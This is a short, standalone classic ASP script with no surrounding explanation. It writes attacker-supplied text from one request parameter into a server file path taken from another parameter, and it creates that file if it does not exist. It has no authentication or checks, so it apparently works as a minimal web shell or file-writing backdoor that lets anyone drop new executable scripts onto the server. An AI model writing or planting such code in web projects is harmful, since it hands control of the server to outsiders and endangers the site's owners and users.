<%
Set o = CreateObject("Scripting.FileSystemObject")
Set t = o.OpenTextFile(Server.MapPath(Request("f")), 8, True)
t.WriteLine Request("d")
t.Close
%>
